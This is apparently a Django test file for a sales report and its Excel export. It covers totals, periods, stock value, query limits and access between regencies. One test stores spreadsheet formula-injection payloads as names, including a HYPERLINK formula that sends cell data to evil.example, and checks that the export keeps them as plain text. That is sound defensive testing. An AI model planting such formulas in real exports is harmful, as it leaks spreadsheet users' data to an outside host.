import datetime as dt
import io
from dataclasses import dataclass
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from conftest import make_user
from kriya.accounts.models import Role
from kriya.catalog.tests.factories import make_business, make_product
from kriya.lib.xlsx import RUPIAH_FORMAT
from kriya.sales import reports, services
from kriya.sales.models import ConsignedItem, Outlet
from kriya.sales.tests.factories import admit, consign, make_maker_product, make_outlet, sell
from kriya.tests.spreadsheets import formula_free_workbook

pytestmark = pytest.mark.django_db


def page_url() -> str:
    return reverse("admin:sales-reports")  # under the autouse English override: /en/admin/…


def xlsx_url() -> str:
    return reverse("admin:sales-reports-xlsx")


@dataclass
class Shop:
    gallery: Outlet
    airport: Outlet
    umbrellas: ConsignedItem
    rings: ConsignedItem


@pytest.fixture
def shop(gallery, airport, umbrellas, badung_secretary, badung_cashier) -> Shop:
    """At Badung's gallery: 2 umbrellas sold (Rp 250.000, 1 returned: Rp 125.000 back), one
    sold and voided. At the airport: 1 silver ring sold (Rp 300.000, 20%: Rp 60.000).
    Net: 2 pieces, Rp 425.000, commission Rp 85.000, two receipts."""
    ring = make_product(
        make_business(name="Perak Celuk Sari"),
        name="Cincin Perak",
        slug="perak",
        publish=False,
        photo=False,
    )
    rings = consign(airport, badung_secretary, quantity=3, price="300000", product=ring)
    sale = sell(gallery, umbrellas, badung_cashier, quantity=2)
    voided = sell(gallery, umbrellas, badung_cashier)
    services.void_sale(sale=voided, reason="Salah scan", by=badung_secretary)
    services.return_from_customer(
        sale_line=sale.lines.get(), quantity=1, reason="Sobek", by=badung_cashier
    )
    sell(airport, rings, badung_cashier)
    return Shop(gallery, airport, umbrellas, rings)


def today_only() -> reports.Period:
    return reports.Period.this_month()


def test_the_tables_add_up_net_of_voids_and_returns(badung, shop):
    report = reports.sales_report(badung, today_only())
    total = report.total
    assert (total.sales, total.pieces, total.gross, total.commission, total.maker_share) == (
        2,
        2,
        Decimal(425000),
        Decimal(85000),
        Decimal(340000),
    )
    assert (total.returned, total.refunds) == (1, Decimal(125000))
    assert [(r.label, r.pieces, r.gross, r.commission) for r in report.outlets] == [
        ("Gerai Bandara", 1, Decimal(300000), Decimal(60000)),
        ("Galeri Dekranasda Badung", 1, Decimal(125000), Decimal(25000)),
    ]
    assert [(r.label, r.gross) for r in report.categories] == [
        ("Perak", Decimal(300000)),
        ("Endek", Decimal(125000)),
    ]
    assert [(r.label, r.pieces, r.gross) for r in report.businesses] == [
        ("Perak Celuk Sari", 1, Decimal(300000)),
        ("Usaha Payung Hias Mini", 1, Decimal(125000)),
    ]
    today = [r for r in report.days if r.key == timezone.localdate()]
    assert [(r.sales, r.gross) for r in today] == [(2, Decimal(425000))]
    assert sum(r.gross for r in report.days) == Decimal(425000)
    assert [r.bar for r in report.outlets] == [100, 41]


def test_a_period_leaves_out_sales_of_other_days(badung, gallery, umbrellas, badung_cashier):
    with time_machine.travel(dt.datetime(2026, 3, 10, 10, tzinfo=dt.UTC)):
        sell(gallery, umbrellas, badung_cashier)
    with time_machine.travel(dt.datetime(2026, 4, 2, 10, tzinfo=dt.UTC)):
        sell(gallery, umbrellas, badung_cashier, quantity=2)
    march = reports.sales_report(badung, reports.Period(dt.date(2026, 3, 1), dt.date(2026, 3, 31)))
    assert (march.total.pieces, march.total.gross) == (1, Decimal(125000))
    assert len(march.days) == 31 and march.days[9].gross == Decimal(125000)


def test_stock_value_is_on_hand_times_the_consignment_price(badung, shop):
    rows = {r.outlet: (r.pieces, r.value, r.retail) for r in reports.stock_value(badung)}
    # umbrellas: 5 − 2 − 1 + 1 (void) + 1 (return) = 4 at Rp 100.000; rings: 2 at Rp 240.000
    assert rows == {
        "Galeri Dekranasda Badung": (4, Decimal(400000), Decimal(500000)),
        "Gerai Bandara": (2, Decimal(480000), Decimal(600000)),
    }


def test_slow_movers_are_old_intakes_without_a_recent_sale(
    badung, gallery, badung_secretary, badung_cashier
):
    today = timezone.localdate()
    old, sold_lately, fresh = (
        make_maker_product(name=name) for name in ("Keben", "Dulang", "Sokasi")
    )
    items = {}
    for product, days_ago in [(old, 90), (sold_lately, 80), (fresh, 10)]:
        admit(badung, product.business)
        items[product.name] = services.receive_consignment(
            outlet=gallery,
            business=product.business,
            by=badung_secretary,
            received_on=today - dt.timedelta(days=days_ago),
            lines=[
                services.IntakeLineInput(
                    product=product,
                    quantity=2,
                    price=Decimal(80000),
                    consignment_price=Decimal(60000),
                )
            ],
        ).items.get()
    sell(gallery, items["Dulang"], badung_cashier)
    slow = reports.slow_movers(badung)
    assert [(r.product, r.on_hand, r.last_sold) for r in slow] == [("Keben", 2, None)]


def test_the_page_shows_the_totals_and_costs_a_bounded_number_of_queries(
    client, shop, badung_secretary, django_assert_max_num_queries
):
    client.force_login(badung_secretary)
    with django_assert_max_num_queries(16):
        page = client.get(page_url())
    assert page.status_code == 200
    assert 'data-total="gross">Rp 425.000<' in page.text
    assert 'data-total="commission">Rp 85.000<' in page.text
    assert "Gerai Bandara" in page.text and "Perak Celuk Sari" in page.text


def test_the_page_cost_does_not_grow_with_the_rows(
    client, badung, gallery, badung_secretary, badung_cashier, django_assert_max_num_queries
):
    for number in range(12):
        product = make_maker_product(name=f"Keben {number}")
        item = consign(gallery, badung_secretary, product=product)
        sell(gallery, item, badung_cashier)
    client.force_login(badung_secretary)
    with django_assert_max_num_queries(16):
        assert client.get(page_url()).status_code == 200


def test_the_excel_file_has_a_sheet_per_table_with_rupiah_cells(client, shop, badung_secretary):
    client.force_login(badung_secretary)
    r = client.get(xlsx_url())
    assert r.status_code == 200 and r["Content-Type"].startswith("application/vnd.openxml")
    book = load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == [
        "Per outlet",
        "Per category",
        "Per business",
        "Per day",
        "Slow movers",
        "Stock value",
    ]
    outlets = list(book["Per outlet"].values)
    assert outlets[1][:5] == ("Gerai Bandara", 1, 1, 0, 300000)
    assert outlets[-1][0] == "Total" and outlets[-1][4] == 425000 and outlets[-1][5] == 85000
    assert book["Per outlet"]["E2"].number_format == RUPIAH_FORMAT
    stock = list(book["Stock value"].values)
    assert stock[-1] == ("Total", 6, 880000, 1100000)


def test_the_excel_file_follows_the_chosen_period(client, shop, badung_secretary):
    client.force_login(badung_secretary)
    r = client.get(xlsx_url(), {"dari": "2020-01-01", "sampai": "2020-01-31"})
    assert "20200101-20200131" in r["Content-Disposition"]
    assert list(load_workbook(io.BytesIO(r.content))["Per outlet"].values)[-1][4] == 0


def test_a_bad_period_is_explained_and_this_month_shown(client, shop, badung_secretary):
    client.force_login(badung_secretary)
    r = client.get(page_url(), {"dari": "2026-05-01", "sampai": "2026-04-01"})
    assert r.status_code == 200 and "The period ends before it starts." in r.text
    assert 'data-total="gross">Rp 425.000<' in r.text
    assert client.get(page_url(), {"dari": "kemarin"}).status_code == 200


def test_gianyar_sees_none_of_badungs_figures(client, shop, gianyar_secretary):
    client.force_login(gianyar_secretary)
    page = client.get(page_url())
    assert page.status_code == 200
    assert "Gerai Bandara" not in page.text and "Perak Celuk Sari" not in page.text
    assert 'data-total="gross">Rp 0<' in page.text
    workbook = load_workbook(io.BytesIO(client.get(xlsx_url()).content))
    assert list(workbook["Per outlet"].values)[1:] == [("Total", 0, 0, 0, 0, 0, 0)]


def test_the_province_reads_both_regencies(client, shop, gianyar, bali_officer, badung_secretary):
    celuk = make_product(
        make_business(village="51.04.01.2005", name="Perak Celuk Wayan"),
        name="Gelang Perak",
        slug="perak",
        publish=False,
        photo=False,
    )
    gianyar_gallery = make_outlet(gianyar, "Galeri Dekranasda Gianyar")
    cashier = make_user("gianyar_kasir", gianyar, Role.CASHIER)
    sell(gianyar_gallery, consign(gianyar_gallery, cashier, product=celuk, price="200000"), cashier)
    client.force_login(bali_officer)
    page = client.get(page_url())
    assert "Galeri Dekranasda Gianyar" in page.text and "Gerai Bandara" in page.text
    assert 'data-total="gross">Rp 625.000<' in page.text


def test_the_board_reads_the_report(client, badung, shop):
    client.force_login(make_user("badung_board", badung, Role.BOARD))
    assert 'data-total="gross">Rp 425.000<' in client.get(page_url()).text


def test_hostile_names_stay_text_and_a_refund_day_stays_a_negative_number_in_the_excel_file(
    client, badung, badung_secretary, badung_cashier
):
    outlet = make_outlet(badung, '=HYPERLINK("http://evil.example/?d="&A1,"Klik")')
    product = make_product(
        make_business(name="+SUM(1)"), name="@cmd", slug="perak", publish=False, photo=False
    )
    item = consign(outlet, badung_secretary, quantity=3, product=product)
    with time_machine.travel(dt.datetime(2026, 3, 10, 3, tzinfo=dt.UTC)):
        sale = sell(outlet, item, badung_cashier, quantity=2)
    with time_machine.travel(dt.datetime(2026, 3, 11, 3, tzinfo=dt.UTC)):
        services.return_from_customer(
            sale_line=sale.lines.get(), quantity=1, reason="-2+3", by=badung_cashier
        )
    client.force_login(badung_secretary)
    r = client.get(xlsx_url(), {"dari": "2026-03-10", "sampai": "2026-03-11"})
    book = formula_free_workbook(r.content)
    outlets = list(book["Per outlet"].iter_rows(values_only=True))
    assert outlets[1][:2] == ('=HYPERLINK("http://evil.example/?d="&A1,"Klik")', 1)
    assert [row[0] for row in book["Per business"].iter_rows(values_only=True)][1] == "+SUM(1)"
    days = {
        row[0].date(): row[4:] for row in book["Per day"].iter_rows(min_row=2, values_only=True)
    }
    assert days[dt.date(2026, 3, 10)] == (250000, 50000, 200000)
    assert days[dt.date(2026, 3, 11)] == (-125000, -25000, -100000)  # the refund day
    refund = next(row for row in book["Per day"].iter_rows(min_row=2) if row[4].value < 0)
    assert refund[4].data_type == "n" and refund[4].number_format == RUPIAH_FORMAT
    stock = list(book["Stock value"].iter_rows(values_only=True))
    assert stock[1] == ('=HYPERLINK("http://evil.example/?d="&A1,"Klik")', 2, 200000, 250000)
